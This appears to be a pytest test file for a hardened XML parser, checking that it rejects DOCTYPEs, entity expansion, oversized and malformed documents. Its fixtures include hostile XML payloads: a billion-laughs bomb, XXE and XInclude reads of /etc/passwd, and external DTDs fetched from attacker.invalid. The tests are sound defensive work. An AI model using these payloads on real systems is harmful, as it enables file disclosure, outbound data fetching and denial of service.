"""The safe XML parser refuses DTDs, entities, oversized and malformed documents."""

from __future__ import annotations

import pytest

from mpg import errors
from mpg.wire import xmlsafe

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol4;</lolz>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<foo>&xxe;</foo>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE foo SYSTEM "http://attacker.invalid/evil.dtd">
<foo>x</foo>"""

PARAMETER_ENTITIES = b"""<?xml version="1.0"?>
<!DOCTYPE foo [
  <!ENTITY % remote SYSTEM "http://attacker.invalid/p.dtd">
  %remote;
]>
<foo/>"""

PUBLIC_DTD = b"""<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN"
  "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>"""

LOWERCASE_DOCTYPE = b"<!doctype foo><foo/>"

XINCLUDE = b"""<root xmlns:xi="http://www.w3.org/2001/XInclude">
<xi:include href="file:///etc/passwd" parse="text"/></root>"""


@pytest.mark.parametrize(
    "document",
    [
        BILLION_LAUGHS,
        EXTERNAL_ENTITY,
        EXTERNAL_DTD,
        PARAMETER_ENTITIES,
        PUBLIC_DTD,
        LOWERCASE_DOCTYPE,
    ],
    ids=[
        "billion-laughs",
        "external-entity",
        "external-dtd",
        "parameter-entities",
        "public-dtd",
        "lowercase-doctype",
    ],
)
def test_any_doctype_is_refused_as_unsafe(document: bytes) -> None:
    """Every document carrying a DOCTYPE is refused with UnsafeXml, before expansion."""
    with pytest.raises(errors.UnsafeXml, match="DOCTYPE"):
        xmlsafe.parse(document)


def test_doctype_in_utf16_document_is_refused() -> None:
    """A DOCTYPE the byte scan cannot see (UTF-16) is caught after parsing."""
    document = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'
    with pytest.raises(errors.UnsafeXml):
        xmlsafe.parse(document.encode("utf-16"))


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_external_dtd_in_wide_encodings_is_refused_as_unsafe(codec: str) -> None:
    """The prolog scan also sees a DOCTYPE in UTF-16 and UTF-32 documents."""
    with pytest.raises(errors.UnsafeXml, match="DOCTYPE"):
        xmlsafe.parse(EXTERNAL_DTD.decode().encode(codec))


@pytest.mark.parametrize(
    "prolog",
    [
        "\ufeff",
        '<?xml version="1.0"?>\n',
        "<!-- <a/> -->\n",
        "<?pi <!DOCTYPE x>?>  \n<!-- c -->\n",
    ],
)
def test_doctype_after_any_prolog_is_refused(prolog: str) -> None:
    """Whitespace, a BOM, the declaration, comments and PIs do not hide a DOCTYPE."""
    with pytest.raises(errors.UnsafeXml, match="DOCTYPE"):
        xmlsafe.parse((prolog + "<!DOCTYPE a SYSTEM 'http://x.invalid/a.dtd'><a/>").encode())


def test_doctype_quoted_in_the_body_is_only_text() -> None:
    """An HTML page with its DOCTYPE inside CDATA or a comment is accepted as text."""
    root = xmlsafe.parse(b"<page><![CDATA[<!DOCTYPE html><html/>]]><!-- <!DOCTYPE x> --></page>")
    assert root.text == "<!DOCTYPE html><html/>"


def test_doctype_in_text_input_is_refused() -> None:
    """A str document is held to the same rules as bytes."""
    with pytest.raises(errors.UnsafeXml):
        xmlsafe.parse(EXTERNAL_ENTITY.decode())


def test_oversized_document_is_refused_before_parsing() -> None:
    """A document over max_bytes is refused by size, even if it is well-formed."""
    document = b"<a>" + b"x" * 100 + b"</a>"
    with pytest.raises(errors.UnsafeXml, match="exceeds"):
        xmlsafe.parse(document, max_bytes=50)
    assert xmlsafe.parse(document, max_bytes=len(document)).tag == "a"


def test_oversized_text_is_measured_in_utf8_bytes() -> None:
    """The limit counts encoded bytes: 20 Chinese characters are 60 bytes."""
    document = "<a>" + "中" * 20 + "</a>"
    with pytest.raises(errors.UnsafeXml):
        xmlsafe.parse(document, max_bytes=60)


def test_default_limit_is_16_mib() -> None:
    """The default size limit is 16 MiB."""
    assert xmlsafe.MAX_BYTES == 16 * 1024 * 1024


def test_xinclude_is_not_processed() -> None:
    """An XInclude element stays an element; the included file is never read."""
    root = xmlsafe.parse(XINCLUDE)
    assert len(root) == 1
    assert root[0].tag == "{http://www.w3.org/2001/XInclude}include"
    assert "root:" not in (root[0].text or "")


def test_undefined_entity_is_malformed() -> None:
    """An entity reference without a DTD is a plain syntax error (WireError, not parsed)."""
    with pytest.raises(errors.WireError) as info:
        xmlsafe.parse(b"<a>&xxe;</a>")
    assert not isinstance(info.value, errors.UnsafeXml)


def test_malformed_document_names_the_line() -> None:
    """A syntax error reports the line lxml found it on."""
    with pytest.raises(errors.WireError, match="line 3"):
        xmlsafe.parse(b"<a>\n<b>\n</a>")


@pytest.mark.parametrize("document", [b"", b"   ", b"not xml", b"<a>", b"<a></b>", b"<a/><b/>"])
def test_malformed_documents_raise_wire_error(document: bytes) -> None:
    """Empty, truncated and mismatched documents raise WireError."""
    with pytest.raises(errors.WireError, match="malformed XML"):
        xmlsafe.parse(document)


def test_lone_surrogate_in_text_is_malformed() -> None:
    """A str that cannot be encoded raises WireError rather than UnicodeEncodeError."""
    with pytest.raises(errors.WireError):
        xmlsafe.parse("<a>\ud800</a>")


def test_text_input_ignores_its_declared_encoding() -> None:
    """Decoded text declaring utf-16 (an nvarchar column) still parses correctly."""
    root = xmlsafe.parse('<?xml version="1.0" encoding="utf-16"?><a>审批</a>')
    assert root.text == "审批"


def test_bytes_input_honours_its_declared_encoding() -> None:
    """Bytes are decoded by their own declaration."""
    document = '<?xml version="1.0" encoding="gb18030"?><a>审批</a>'.encode("gb18030")
    assert xmlsafe.parse(document).text == "审批"


def test_comments_and_processing_instructions_do_not_split_text() -> None:
    """Comments and PIs are dropped, so the element's text stays whole."""
    root = xmlsafe.parse(b"<a>one<!-- c -->two<?pi x?>three<![CDATA[<b>]]></a>")
    assert root.text == "onetwothree<b>"
    assert len(root) == 0


def test_check_text_names_the_field() -> None:
    """A character XML 1.0 cannot carry is reported with the field and code point."""
    with pytest.raises(errors.WireError, match=r"submit/message\[2\]/subject: character U\+0001"):
        xmlsafe.check_text("ok\x01", "submit/message[2]/subject")


@pytest.mark.parametrize("value", ["\x00", "\x08", "\x0b", "\x1f", "\ufffe", "\uffff", "\ud800"])
def test_check_text_refuses_non_xml_characters(value: str) -> None:
    """NUL, C0 controls (except tab, LF, CR), U+FFFE/U+FFFF and surrogates are refused."""
    assert not xmlsafe.is_xml_text(value)
    with pytest.raises(errors.WireError):
        xmlsafe.check_text(value, "f")


def test_check_text_accepts_whitespace_and_astral_characters() -> None:
    """Tab, CR, LF, CJK and characters beyond the BMP are all fine."""
    value = "\t\r\n 中文 😀 \U0010ffff"
    assert xmlsafe.check_text(value, "f") == value
